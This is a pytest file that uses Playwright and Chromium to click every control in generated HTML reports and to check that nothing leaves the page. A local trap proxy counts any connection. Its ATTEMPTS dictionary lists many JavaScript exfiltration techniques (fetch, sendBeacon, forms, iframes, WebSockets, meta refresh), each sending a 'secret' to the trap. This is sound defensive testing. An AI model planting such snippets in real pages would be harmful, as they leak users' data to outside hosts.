"""report.html and evaluation.html in a browser: everything that can be clicked is clicked, and nothing leaves the page.

Chromium is driven by Playwright. Every request that it would send goes to a proxy that is a trap: whatever reaches it, whoever
sent it, is a failure. Requests, pop-ups, navigations and console errors are watched as well.
"""
import shutil
import socket
import threading

import numpy as np
import pytest
from opd.evaluate.command import hold
from opd.evaluate.detector import Detector
from opd.trace import Probe, Trace
from test_report import COMPUTED_STEPS, Replay, make_compute

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
if CHROMIUM is None:
    pytest.skip("no Chromium to click in", allow_module_level=True)
playwright = pytest.importorskip("playwright.sync_api", reason="no playwright (scripts/setup --for test installs it)")

SILENT = b"a connection without a word"
INSIDE = ("file:", "data:", "blob:", "about:")
# Whatever a user can act on: elements of HTML, and what plotly draws and listens to.
CONTROLS = ("a, button, input, select, summary, label, textarea, [role=button], [onclick], [tabindex], .modebar-btn, .legendtoggle, "
            ".nsewdrag, .ewdrag, .nsdrag")
# The controls on screen as {path: [name, text]}; the path says where in the document one is, also after plotly drew it again.
LIST = """selector => {
  const path = node => !node.parentElement ? node.localName
    : path(node.parentElement) + ">" + node.localName + [...node.parentElement.children].indexOf(node);
  const seen = {};
  for (const node of document.querySelectorAll(selector)) {
    const box = node.getBoundingClientRect();
    if (box.width > 0 && box.height > 0)
      seen[path(node)] = [node.localName, node.getAttribute("data-title") || node.getAttribute("data-attr") || node.textContent.slice(0, 40)];
  }
  return seen;
}"""
FIND = """path => path.split(">").slice(1).reduce((node, step) => node && node.children[Number(step.match(/\\d+$/)[0])], document.documentElement)"""


class Trap:
    """A server on this machine that answers nobody and counts who came."""

    def __init__(self):
        self.caught = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.caught.append(connection.recv(300) or SILENT)
                except OSError:
                    self.caught.append(SILENT)

    def close(self):
        self._socket.close()


class Visit:
    """A page that is open, and what it did that may leave it."""

    def __init__(self, context, file):
        self.requests, self.windows, self.console, self.downloads, self.navigations = [], [], [], [], []
        self.page = context.new_page()
        context.on("page", lambda page: self.windows.append(page.url))
        context.on("request", lambda request: self.requests.append(request.url))
        self.page.on("console", lambda message: self.console.append(message.text) if message.type in ("error", "warning") else None)
        self.page.on("pageerror", lambda error: self.console.append(str(error)))
        self.page.on("download", lambda download: self.downloads.append(download.suggested_filename))
        self.page.on("framenavigated", lambda frame: self.navigations.append(frame.url))
        self.page.goto(file.as_uri())
        self.page.wait_for_selector(".js-plotly-plot .modebar-btn", state="attached")
        self.page.wait_for_timeout(300)
        self.navigations.clear()

    def outside(self):
        return [url for url in self.requests if not url.startswith(INSIDE)]


@pytest.fixture(scope="module")
def trap():
    trap = Trap()
    yield trap
    trap.close()


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as driver:
        # The browser's own services (updates, accounts) find nobody; pages have the trap for a proxy.
        browser = driver.chromium.launch(executable_path=CHROMIUM, timeout=180_000, args=[
            "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", "--disable-gpu"])
        yield browser
        browser.close()


def open_context(browser, trap):
    proxy = {"server": f"http://127.0.0.1:{trap.port}", "bypass": "<-loopback>"}
    context = browser.new_context(viewport={"width": 1280, "height": 1000}, accept_downloads=True, proxy=proxy)
    context.set_default_timeout(180_000)  # milliseconds; a busy machine
    return context


class Level(Detector):
    """An alarm at every sample of 12 or more."""
    name, source, settings, unit = "level <b>", "this test", {"level": 12}, "max"
    threshold, sweep, inclusive = 12.0, (8.0, 12.0, 30.0), True
    state_bits, operations = 1, {"compare": 1}

    def score(self, samples, threshold):
        return np.where(samples.finite, samples.magnitude, -np.inf)


def evaluation_page(folder):
    """evaluation.html of three small runs, with ROC curves of two classes and tables of every kind."""
    from opd.evaluate.report import page_of
    for name, label in (("calm", "healthy"), ("edge", "near-limit"), ("ramp", "gradual")):
        steps = np.arange(200)
        max_abs = np.stack([np.full(200, 10.0), np.linspace(8, 64, 200)], axis=1).astype(np.float32)
        nonfinite = np.zeros((200, 2), np.int64)
        if label == "gradual":
            nonfinite[180:, 1] = 1
        Trace(name, label, [Probe("a<b>", "activation", "FP16", (8,)), Probe("b", "activation", "FP16", (8,))], steps, max_abs,
              nonfinite, *((180, "b") if label == "gradual" else (None, None))).write(folder / f"{name}.safetensors")
    file = folder / "evaluation.html"
    file.write_text(page_of(hold([Level()], [str(folder)], goals_of="level <b>")), encoding="utf-8")
    return file


def report_page(folder):
    """report.html of a replay that computed operators."""
    replay = Replay(folder)
    replay.entry["compute"] = make_compute()
    replay.write()
    return folder / "report.html"


PAGES = {"report": (report_page, {"Download plot as a PNG", "Zoom", "Pan", "Reset axes"}, {"button", "select", "summary", "rect"}),
         "evaluation": (evaluation_page, {"Download plot as a PNG", "Zoom", "Pan", "Reset axes"}, {"button", "rect"})}


@pytest.fixture(params=PAGES)
def visit(request, browser, trap, tmp_path):
    trap.caught.clear()
    context = open_context(browser, trap)
    yield Visit(context, PAGES[request.param][0](tmp_path)), request.param
    context.close()


def act(page, path, name):
    """What a user does to a control: every choice of a list, a click on anything else."""
    handle = page.evaluate_handle(FIND, path).as_element()
    if handle is None:
        return  # gone since it was listed, with what it was part of
    if name == "select":
        for value in handle.evaluate("node => [...node.options].map(o => o.value)"):
            handle.select_option(value)
            page.wait_for_timeout(60)
        return
    handle.scroll_into_view_if_needed()
    box = handle.bounding_box()
    if box is None:
        return
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    page.mouse.move(x, y)
    page.mouse.click(x, y)
    handle.dispatch_event("click")  # also where another element lies on it
    page.wait_for_timeout(60)


def test_everything_is_clicked_and_nothing_leaves(visit, trap):
    visit, kind = visit
    page, clicked, names = visit.page, {}, set()
    for _ in range(1000):
        new = [(path, told) for path, told in page.evaluate(LIST, CONTROLS).items() if path not in clicked]
        if not new:
            break
        path, (name, text) = new[0]
        clicked[path] = text
        names.add(name)
        act(page, path, name)
    else:
        pytest.fail("controls without an end")
    for plot in page.query_selector_all(".js-plotly-plot .nsewdrag"):  # zoom into it, and out again
        plot.scroll_into_view_if_needed()
        box = plot.bounding_box()
        page.mouse.move(box["x"] + box["width"] * 0.3, box["y"] + box["height"] * 0.3)
        page.mouse.down()
        page.mouse.move(box["x"] + box["width"] * 0.6, box["y"] + box["height"] * 0.6, steps=4)
        page.mouse.up()
        page.mouse.dblclick(box["x"] + box["width"] * 0.5, box["y"] + box["height"] * 0.5)
    page.wait_for_timeout(1500)

    _, buttons, kinds = PAGES[kind]
    titles = set(clicked.values())
    assert titles >= buttons and names >= kinds, (buttons - titles, kinds - names)  # the buttons were there, and were clicked
    assert visit.downloads  # a picture is still saved
    assert not [title for title in titles if "share" in title.lower() or "cloud" in title.lower()]
    assert visit.outside() == [] and trap.caught == []
    assert visit.windows == [] and visit.navigations == []
    assert visit.console == []


# What a script in the page could try. URL is the trap's, behind it a secret.
ATTEMPTS = {
    "fetch": "fetch(URL).catch(() => 0)",
    "fetch without reading": "fetch(URL, {mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true}).catch(() => 0)",
    "request": "{const r = new XMLHttpRequest(); r.open('GET', URL); r.send();}",
    "beacon": "navigator.sendBeacon(URL, 'secret')",
    "image": "new Image().src = URL",
    "style": "{const s = document.createElement('style'); s.textContent = `body{background:url(${URL})} @import '${URL}';`; "
             "document.head.append(s);}",
    "script": "{const s = document.createElement('script'); s.src = URL; document.head.append(s);}",
    "inline script": "{const s = document.createElement('script'); s.textContent = `location.href = '${URL}'`; document.head.append(s);}",
    "link": "for (const rel of ['stylesheet', 'prefetch', 'icon', 'preload', 'modulepreload']) {const l = document.createElement('link');"
            " l.rel = rel; l.as = 'image'; l.href = URL; document.head.append(l);}",
    "frame": "{const f = document.createElement('iframe'); f.src = URL; document.body.append(f);}",
    "object": "{const o = document.createElement('object'); o.data = URL; document.body.append(o);}",
    "media": "{const v = document.createElement('video'); v.src = URL; v.load(); document.body.append(v);}",
    "worker": "try {new Worker(URL)} catch {}",
    "socket": "try {new WebSocket(URL.replace('http', 'ws'))} catch {}",
    "events": "try {new EventSource(URL)} catch {}",
    "form": "{const f = document.createElement('form'); f.action = URL; f.method = 'post'; document.body.append(f); f.submit();}",
    "form in a window": "{const f = document.createElement('form'); f.action = URL; f.target = '_blank'; document.body.append(f);"
                        " f.submit();}",
    "ping": "{const a = document.createElement('a'); a.href = '#x'; a.ping = URL; document.body.append(a); a.click();}",
    "anchor": "{const a = document.createElement('a'); a.href = URL; document.body.append(a); a.click();}",
    "anchor to a window": "{const a = document.createElement('a'); a.href = URL; a.target = '_blank'; document.body.append(a); a.click();}",
    "anchor in a drawing": "{const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.innerHTML = "
                           "`<a href='${URL}'><text y='20'>x</text></a>`; document.body.append(s); "
                           "s.querySelector('text').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));}",
    "window": "window.open(URL, '_blank')",
    "window of the same frame": "window.open(URL, '_self')",
    "location": "location.href = URL",
    "replaced location": "location.replace(URL)",
    "base": "{const b = document.createElement('base'); b.href = URL; document.head.append(b); new Image().src = 'x.png';}",
    "refresh": "{const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${URL}`; document.head.append(m);}",
}


def test_a_script_that_wants_out_stays_inside(visit, trap):
    """No script but those in the file can run; and one that did would get no word out. (Chromium opens a connection for a frame
    before it asks the policy, and sends nothing.)"""
    visit, _ = visit
    before = visit.page.url
    for attempt, script in ATTEMPTS.items():
        visit.page.evaluate(f"() => {{ const URL = 'http://127.0.0.1:{trap.port}/?secret'; {script} }}")
        visit.page.wait_for_timeout(250)
        assert set(trap.caught) <= {SILENT}, attempt
        assert visit.windows == [] and visit.page.url.split("#")[0] == before, attempt


DRAWN = """() => {
  const plot = document.querySelector(".computed"), of = (axis, name) => plot.data.find(t => t.name === name && t.yaxis === axis);
  return {choices: [...document.querySelectorAll("[id^=compute-op-] option")].map(o => o.value),
          chosen: document.querySelector("[id^=compute-op-]").value, above: document.querySelector("[id^=op-]").value,
          answer: document.querySelector(".answer").textContent, facts: document.querySelector(".facts").textContent,
          panels: Object.keys(plot.layout).filter(key => key.startsWith("yaxis")).length,
          bands: plot.layout.shapes.filter(shape => shape.type === "rect").length,
          steps: of("y", "FAST").x, outcome: ["FAST", "STABLE", "SAFE"].map(mode => of("y", mode).marker.symbol),
          ran: plot.data.find(t => t.yaxis === "y" && t.marker.symbol === "circle-open").y, largest: of("y2", "FAST").y,
          points: [...plot.querySelectorAll("path.point")].map(path => path.getAttribute("transform"))};
}"""


def test_the_operator_that_is_chosen_is_drawn_as_computed(browser, trap, tmp_path):
    """Each choice changes the picture; the choice above follows and leads; an operator that was not computed changes nothing."""
    trap.caught.clear()
    context = open_context(browser, trap)
    visit = Visit(context, report_page(tmp_path))
    page, compute = visit.page, make_compute()
    first = page.evaluate(DRAWN)
    assert (first["chosen"], first["above"], first["choices"]) == ("0", "0", ["0", "1", "3"])  # the operator of the first incident
    seen = {}
    for op in ("1", "3", "0"):
        page.select_option("#compute-op-0", op)
        page.wait_for_timeout(200)
        drawn = seen[op] = page.evaluate(DRAWN)
        operator = compute["operators"][int(op)]
        assert drawn["chosen"] == drawn["above"] == op and drawn["answer"].startswith(f"{operator['kernel']}, {operator['format']}")
        modes = ["FAST", "STABLE", "SAFE"]
        assert drawn["outcome"] == [["x" if step["modes"][mode]["overflow"] else "circle" for step in operator["steps"]] for mode in modes]
        assert drawn["steps"] == COMPUTED_STEPS and drawn["ran"] == [modes.index(step["mode"]) for step in operator["steps"]]
        expected = [step["modes"]["FAST"]["largest"] or None for step in operator["steps"]]
        expected.insert(1, None)  # step 20 begins another window
        assert [log2 and 2 ** log2 for log2 in drawn["largest"]] == [value and pytest.approx(value, 1e-6) for value in expected]
        assert drawn["bands"] == {"0": 2, "1": 2, "3": 0}[op] and drawn["panels"] == (5 if op == "1" else 4)  # with accumulators
    assert seen["0"] == first and len({tuple(drawn["points"]) for drawn in seen.values()}) == len({drawn["facts"] for drawn in seen.values()}) == 3

    def chosen():
        drawn = page.evaluate(DRAWN)
        return drawn["above"], drawn["chosen"]

    page.select_option("#op-0", "3")
    assert chosen() == ("3", "3")
    page.select_option("#op-0", "2")
    assert chosen() == ("2", "3")
    page.evaluate("document.querySelector('.heat').emit('plotly_click', {points: [{y: 1}]})")
    assert chosen() == ("1", "1")
    page.set_viewport_size({"width": 420, "height": 900})
    page.wait_for_timeout(400)
    assert page.evaluate("document.documentElement.scrollWidth") == 420
    assert visit.console == [] and visit.outside() == [] and trap.caught == []
    context.close()


def test_the_trap_catches(browser, trap):
    """Without a policy the same attempts do come out: the trap is set."""
    trap.caught.clear()
    context = open_context(browser, trap)
    page = context.new_page()
    page.set_content("<p>no policy</p>")
    page.evaluate(f"() => {{ const URL = 'http://127.0.0.1:{trap.port}/?secret'; {ATTEMPTS['fetch without reading']} }}")
    page.wait_for_timeout(400)
    assert trap.caught and b"secret" in trap.caught[0]
    context.close()
